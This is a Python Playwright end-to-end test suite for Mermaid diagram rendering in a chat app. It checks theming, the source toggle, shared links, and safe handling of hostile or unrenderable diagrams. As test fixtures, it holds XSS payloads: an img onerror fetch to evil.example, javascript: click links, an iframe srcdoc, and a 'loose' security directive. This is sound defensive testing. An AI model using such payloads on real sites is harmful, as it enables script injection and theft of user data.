"""Diagrams that models write: drawn where nothing can be done or reached, and shown as images in the page's colours."""

from typing import Any

from playwright.async_api import Locator, expect

from tertulia.client import AsyncClient
from tertulia.domain.agents import Agent
from tests.e2e.axe import violations
from tests.e2e.rehearsed_models import RehearsedModels, says
from tests.e2e.sight import NARROW
from tests.e2e.visitor import Visit


def fence(source: str) -> str:
    return f"```mermaid\n{source}\n```\n\n"


DRAWN = """\
flowchart LR
  accTitle: How a question is answered
  ask[Question] --> think{Known?}
  think -->|yes| answer[Answer]
  think -->|no| search[Search the web] --> answer"""
IN_A_LIST = """\
- In a list:
  ```mermaid
  pie title Days
    "Rain" : 3
    "Sun" : 4
  ```
"""
STEAL = "<img src=https://evil.example/i onerror='top.stolen = 1, fetch(`https://evil.example/f`)'>"
LOOSE = '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\n'
HOSTILE = [
    f'{LOOSE}flowchart TD\n  a["{STEAL}"] --> b["<iframe srcdoc=x></iframe>"]',
    'flowchart TD\n  a --> b\n  click a href "javascript:top.stolen = 1" _top\n  click b call alert(1)',
    f"sequenceDiagram\n  participant A as {STEAL}\n  A->>B: {STEAL}\n  link A: Go @ javascript:alert(1)",
    f'classDiagram\n  class A["{STEAL}"]\n  click A href "javascript:alert(1)"\n  note for A "{STEAL}"',
]
NOT_DRAWN = [
    "flowchart TD\n" + "\n".join(f"  n{n} --> n{n + 1}" for n in range(700)),
    "flowchart TD\n  a[" + "x" * 30_000 + "]",
    "flowchart LR\n  a --> ",
    "no diagram at all",
]
COLOURS = """(image) => {
  const { naturalWidth: width, naturalHeight: height } = image;
  const pen = Object.assign(document.createElement("canvas"), { width, height }).getContext("2d");
  pen.drawImage(image, 0, 0);
  const { data } = pen.getImageData(0, 0, width, height);
  const colours = new Set();
  for (let at = 0; at < data.length; at += 4) colours.add(data.slice(at, at + 3).join());
  return { corner: [...data.slice(0, 3)], count: colours.size };
}"""
SCRIPTS = "performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => /diagram/.test(name))"


async def colours_of(image: Locator) -> dict[str, Any]:
    """Wait until an image is drawn; return the colour of its corner, and of how many colours it is."""
    await expect(image).to_have_js_property("complete", value=True)
    return await image.evaluate(COLOURS)


async def test_a_diagram_is_drawn_when_it_is_seen_in_the_colours_of_the_page_with_its_source_behind(
    visit: Visit, agent: Agent, models: RehearsedModels, model: str, client: AsyncClient
) -> None:
    models.will(model, says("Words."), says(fence(DRAWN)[:60], fence(DRAWN)[60:], IN_A_LIST))
    visitor = await visit(agent, color_scheme="light")
    page = visitor.page
    await visitor.begin()
    await visitor.say("Talk")
    await expect(visitor.answer_to("Talk")).to_have_text("Words.")
    assert await page.evaluate(SCRIPTS) == []

    await visitor.say("Draw")
    images = visitor.answer_to("Draw").get_by_role("img")
    await expect(images).to_have_count(2)
    drawn = page.get_by_role("img", name="How a question is answered")
    light = await colours_of(drawn)
    assert (light["corner"], light["count"] > 10) == ([251, 251, 249], True)
    assert await violations(page) == []

    await visitor.answer_to("Draw").get_by_role("button", name="Show source").first.click()
    await expect(drawn).to_have_count(0)
    await expect(visitor.answer_to("Draw").locator("pre")).to_contain_text("think{Known?}")
    await visitor.answer_to("Draw").get_by_role("button", name="Show source", pressed=True).click()

    await page.emulate_media(color_scheme="dark")
    await page.set_viewport_size(NARROW)
    await expect(page.locator("html")).to_have_attribute("data-color-scheme", "dark")
    await expect(images).to_have_count(2)
    dark = await colours_of(drawn)
    assert (dark["corner"], dark["count"] > 10) == ([20, 24, 22], True)
    assert not await visitor.is_wider_than_screen()
    assert await violations(page) == []

    # So it is for who reads the talk by a link.
    link = await client.create_share(visitor.agent_id, await visitor.wait_for_session())
    await visitor.open(link.url)
    await drawn.scroll_into_view_if_needed()
    assert (await colours_of(drawn))["corner"] == [20, 24, 22]


async def test_a_hostile_diagram_does_nothing_and_one_that_cannot_be_drawn_is_shown_as_it_is_written(
    visit: Visit, agent: Agent, models: RehearsedModels, model: str
) -> None:
    models.will(model, *(says(fence(source)) for source in HOSTILE), says("".join(map(fence, NOT_DRAWN))))
    visitor = await visit(agent)
    page = visitor.page
    await visitor.begin()
    for n in range(len(HOSTILE)):
        await visitor.say(f"Try {n}")
        image = visitor.answer_to(f"Try {n}").get_by_role("img")
        await expect(image).to_be_visible()
        await image.click()
    await visitor.say("Fail")
    failed = visitor.answer_to("Fail")
    for n in range(len(NOT_DRAWN)):
        await failed.locator("figure").nth(n).scroll_into_view_if_needed()
    await expect(failed.get_by_text("This diagram cannot be drawn")).to_have_count(len(NOT_DRAWN))
    await expect(failed.get_by_role("img")).to_have_count(0)
    assert await page.evaluate("window.stolen") is None
    assert [frame.name for frame in page.frames if "diagram" not in frame.url] == [page.main_frame.name]
    assert len(page.context.pages) == 1
